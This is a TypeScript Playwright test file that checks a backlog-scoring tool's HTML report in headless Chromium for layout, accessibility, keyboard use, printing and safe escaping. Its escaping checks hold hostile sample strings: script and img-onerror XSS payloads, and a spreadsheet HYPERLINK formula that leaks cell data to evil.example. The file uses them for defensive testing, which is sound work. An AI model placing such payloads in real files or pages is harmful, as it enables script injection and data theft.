/**
 * The HTML report opened in a real headless Chromium (test/helpers/browser.ts says which:
 * Debian's where the machine has it, else the one an npm dev dependency ships): the chart
 * draws one mark per item and has its data as a table, nothing runs or is fetched, hostile
 * item text shows as text, everything works from the keyboard, every table fits A4, and a
 * screenshot and a PDF are kept in test-results/. It runs with npm test, wherever Node and npm
 * are all the machine has. The axe-core audit, which takes most of a browser run's time, is in
 * html.a11y.browser.test.ts (slow project).
 */
import { mkdirSync, mkdtempSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../helpers/browser.js';
import { repoPath, triage } from '../helpers/run.js';

const ARTEFACTS = repoPath('test-results');
/** 22 example items and 6 hostile ones. */
const ITEMS = 28;
/** A4's width less the report's 14 mm print margins, in CSS pixels (96 to the inch). */
const A4_PRINTABLE = Math.floor(((210 - 2 * 14) / 25.4) * 96);

/** The focused element, as a person would name it: its role and its words. */
const FOCUSED = `(() => {
  const e = document.activeElement;
  const words = (el) => (el?.textContent ?? '').replace(/\\s+/g, ' ').trim();
  if (e.tagName === 'A') return 'link ' + words(e);
  if (e.tagName === 'SUMMARY') return 'summary #' + e.parentElement.id;
  if (e.getAttribute('role') === 'region') return 'region ' + words(document.getElementById(e.getAttribute('aria-labelledby')));
  return e.tagName.toLowerCase() + (e.id ? '#' + e.id : '');
})()`;

/**
 * Whether the focused element shows it (a 3 px outline, or for the skip link its box coming
 * into view) and is not hidden by anything: the middle of it is itself or inside it.
 */
const FOCUS_SHOWN = `(() => {
  const e = document.activeElement;
  const style = getComputedStyle(e);
  const box = e.getBoundingClientRect();
  // Focus scrolls by whole pixels: a box may end a fraction of a pixel past the edge, in view all the same.
  const inView = box.top >= -1 && box.left >= -1 && box.bottom <= innerHeight + 1 && box.right <= innerWidth + 1;
  const atMiddle = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
  const outlined = style.outlineStyle === 'solid' && style.outlineWidth === '3px';
  return outlined && inView && (atMiddle === e || e.contains(atMiddle));
})()`;

describe('the HTML report in Chromium', () => {
  let browser: Browser;
  let page: Page;
  const seen = { errors: [] as string[], dialogs: [] as string[], requests: [] as string[] };

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'triage-html-'));
    const file = join(dir, 'report.html');
    const run = triage(['score', 'examples/backlog.csv', 'test/fixtures/reports/hostile.csv', '-f', 'html', '-o', file]);
    expect([run.code, run.stderr]).toEqual([0, `wrote ${file}\n`]);

    browser = await launchChromium();
    page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') seen.errors.push(message.text());
    });
    page.on('pageerror', (error) => seen.errors.push(String(error)));
    page.on('dialog', (dialog) => {
      seen.dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => seen.requests.push(request.url()));
    await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
  }, 60000);

  afterAll(async () => {
    await browser?.close();
  });

  it('draws one mark per item, each inside the chart and with its item as a tooltip', async () => {
    const marks = page.locator('svg.chart g.dot');
    expect(await marks.count()).toBe(ITEMS);
    const chart = (await page.locator('svg.chart').boundingBox())!;
    for (const mark of await marks.all()) {
      const box = (await mark.boundingBox())!;
      expect(box.width).toBeGreaterThan(5);
      expect(box.x).toBeGreaterThanOrEqual(chart.x);
      expect(box.x + box.width).toBeLessThanOrEqual(chart.x + chart.width);
      expect(box.y).toBeGreaterThanOrEqual(chart.y);
      expect(box.y + box.height).toBeLessThanOrEqual(chart.y + chart.height);
    }
    const tips = await page.locator('svg.chart g.dot > title').allTextContents();
    expect(tips).toHaveLength(ITEMS);
    expect(tips[0]).toBe('WI-01 Discharge to assess pathway redesign\nThe Union\nalignment 69, transformation 100 (transformational)');
    expect(await page.locator('svg.chart .threshold line').count()).toBe(3);
  });

  it('runs nothing, fetches nothing and logs no error', async () => {
    expect(await page.locator('script, img, iframe, object, embed, link').count()).toBe(0);
    expect(seen.errors).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.requests).toHaveLength(1);
    expect(seen.requests[0]).toMatch(/^file:\/\/.*report\.html$/);
  });

  it('shows hostile item text as text', async () => {
    const text = await page.locator('body').innerText();
    expect(text).toContain("<script>alert('title')</script>");
    expect(text).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")');
  });

  it('fits a phone: with every explanation open, nothing widens the page beyond 420 px', async () => {
    const phone = await browser.newPage({ viewport: { width: 420, height: 800 } });
    await phone.goto(page.url());
    for (const summary of await phone.locator('details > summary').all()) await summary.click();
    // Every explanation, and the chart's data.
    expect(await phone.locator('details[open]').count()).toBe(ITEMS + 1);
    expect(await phone.evaluate('document.documentElement.scrollWidth')).toBe(420);
    await phone.close();
  });

  it('opens an explanation without any script, and hides closed ones on paper', async () => {
    const details = page.locator('details#item-6');
    expect(await details.getAttribute('open')).toBe(null);
    await details.locator('summary').click();
    expect(await details.getAttribute('open')).toBe('');
    expect(await details.locator('h3').first().textContent()).toBe('Alignment 14/100 — the weighted mean of principle scores');

    mkdirSync(ARTEFACTS, { recursive: true });
    await page.screenshot({ path: join(ARTEFACTS, 'html-report.png'), fullPage: true });
    expect(statSync(join(ARTEFACTS, 'html-report.png')).size).toBeGreaterThan(50000);

    await page.emulateMedia({ media: 'print' });
    const visible = (selector: string): Promise<number> => page.locator(selector).filter({ visible: true }).count();
    expect([await visible('details.explain'), await visible('section.explanations'), await visible('.print-only')]).toEqual([1, 1, 1]);
    await page.pdf({ path: join(ARTEFACTS, 'html-report.pdf'), format: 'A4', printBackground: true });
    expect(statSync(join(ARTEFACTS, 'html-report.pdf')).size).toBeGreaterThan(20000);
    await page.emulateMedia({ media: 'screen' });
  });

  it('has the chart as an image named by its title, with its data in a table a keyboard reaches', async () => {
    const chart = page.getByRole('img', { name: 'Alignment against transformation, one mark per item' });
    expect(await chart.getAttribute('aria-details')).toBe('chart-data');
    expect(await page.locator('#chart-desc').textContent()).toBe(
      '28 items. Thresholds: transformational from 60; business as usual below 40; alignment 50. The table after the chart gives its data.',
    );
    const data = page.locator('details#chart-data');
    expect(await data.locator('summary').textContent()).toBe("The chart's data: 28 items with their scores");
    const table = page.getByRole('table', { name: 'Each item in the chart, in input order' });
    expect(await table.isVisible()).toBe(false);
    await data.locator('summary').click();
    expect(await table.locator('thead th').allTextContents()).toEqual(['ID', 'Title', 'Route', 'Alignment', 'Transformation', 'Classification']);
    const rows = table.locator('tbody tr');
    expect(await rows.count()).toBe(ITEMS);
    expect(await rows.first().locator('td').allTextContents()).toEqual([
      'WI-01',
      'Discharge to assess pathway redesign',
      'The Union',
      '69',
      '100',
      'transformational',
    ]);
    expect(await rows.nth(26).locator('td').allTextContents()).toEqual([
      'H-5',
      "<script>alert('title')</script>",
      'Needs review',
      '36',
      '75',
      'transformational',
    ]);
    await data.locator('summary').click();
  });

  it('works from the keyboard: a skip link, then every link and fold in reading order, each with a visible focus', async () => {
    const keys = await browser.newPage({ viewport: { width: 1100, height: 900 } });
    await keys.goto(page.url());
    const route = (label: string, ids: string[]): string[] => [`region ${label} (${ids.length})`, ...ids.map((id) => `link ${id}`)];
    const expected = [
      'link Skip to the report',
      'link Headline counts',
      'link Where the work sits',
      'link The Union',
      'link Council',
      'link CCG',
      'link Individual',
      'link Needs review',
      'link Fragile items',
      'link How each item was assessed',
      'summary #chart-data',
      ...route('The Union', ['WI-01', 'WI-02', 'WI-03', 'WI-07', 'WI-08', 'WI-09', 'WI-22']),
      ...route('Council', ['WI-04', 'WI-11', 'WI-17', 'WI-19', 'H-6']),
      ...route('CCG', ['WI-05', 'WI-10', 'WI-16', 'WI-20']),
      ...route('Individual', ['WI-06', 'WI-18', 'WI-21', 'H-1', 'H-2', 'H-3', 'H-4']),
      ...route('Needs review', ['WI-12', 'WI-13', 'WI-14', 'WI-15', 'H-5']),
      'region Fragile items',
      // The first explanation, in route order.
      'summary #item-1',
    ];
    const focused: string[] = [];
    const unseen: string[] = [];
    for (let k = 0; k < expected.length; k++) {
      await keys.keyboard.press('Tab');
      const name = await keys.evaluate<string>(FOCUSED);
      focused.push(name);
      if (!(await keys.evaluate<boolean>(FOCUS_SHOWN))) unseen.push(name);
    }
    expect(focused).toEqual(expected);
    expect(unseen).toEqual([]);

    // Enter opens the explanation in focus; Space opens the next.
    await keys.keyboard.press('Enter');
    expect(await keys.locator('details#item-1').getAttribute('open')).toBe('');
    await keys.keyboard.press('Tab');
    expect(await keys.evaluate<string>(FOCUSED)).toBe('summary #item-2');
    await keys.keyboard.press(' ');
    expect(await keys.locator('details#item-2').getAttribute('open')).toBe('');
    expect(await keys.locator('details#item-2 h3').first().textContent()).toBe('Alignment 79/100 — the weighted mean of principle scores');

    // The skip link goes past the contents to the report itself.
    await keys.goto(page.url());
    await keys.keyboard.press('Tab');
    await keys.keyboard.press('Enter');
    expect(await keys.evaluate<string>(FOCUSED)).toBe('main#main');
    await keys.keyboard.press('Tab');
    expect(await keys.evaluate<string>(FOCUSED)).toBe('summary #chart-data');
    await keys.close();
  });

  it("shows each item's description in full in its explanation, escaped", async () => {
    const description = page.locator('details#item-1 .description');
    expect(await description.textContent()).toBe(
      'Redesign the hospital discharge pathway so people leave hospital to be assessed at home, joining up council reablement, community health services and the acute trust. Co-designed with patients and carers to cut delayed discharges.',
    );
    expect(await page.locator('details#item-27 .description').textContent()).toBe("<img src=x onerror=alert('description')>");
    expect(await page.locator('details#item-1 .facts').textContent()).not.toContain('description');
  });

  it('fits every table to A4 when printed, even with long unbroken ids, titles and descriptions', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'triage-html-print-'));
    const long = join(dir, 'long.csv');
    const word = (n: number): string => 'Unbroken'.repeat(n);
    writeFileSync(
      long,
      `id,title,description,lead,organisations,effort_weeks,cost_gbp,recurring,citizen_impact,evidence\nL-${'9'.repeat(60)},${word(40)},https://example.org/${word(60)},council,council,1234567,987654321,no,2,qualitative\n`,
    );
    const file = join(dir, 'report.html');
    const run = triage(['score', 'examples/backlog.csv', long, '-f', 'html', '-o', file]);
    expect([run.code, run.stderr]).toEqual([0, `wrote ${file}\n`]);
    const paper = await browser.newPage({ viewport: { width: A4_PRINTABLE, height: 1100 } });
    await paper.goto(pathToFileURL(file).href);
    await paper.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })");
    await paper.emulateMedia({ media: 'print' });
    // Every table, with what it takes against what its container gives it.
    const tables = await paper.evaluate<Array<{ table: string; needs: number; has: number }>>(`[...document.querySelectorAll('table')].map((t, k) => ({
      table: k + ' ' + t.className,
      needs: Math.max(t.scrollWidth, t.getBoundingClientRect().width),
      has: t.parentElement.clientWidth,
    }))`);
    // 6 route and chart tables, the fragile items and a principles table in each of the 23 explanations.
    expect(tables).toHaveLength(6 + 1 + 23);
    expect(tables.filter((t) => t.needs > t.has)).toEqual([]);
    expect(await paper.evaluate('document.documentElement.scrollWidth')).toBe(A4_PRINTABLE);
    mkdirSync(ARTEFACTS, { recursive: true });
    await paper.pdf({ path: join(ARTEFACTS, 'html-report-long.pdf'), format: 'A4', printBackground: true });
    expect(statSync(join(ARTEFACTS, 'html-report-long.pdf')).size).toBeGreaterThan(20000);
    await paper.close();
  });
});
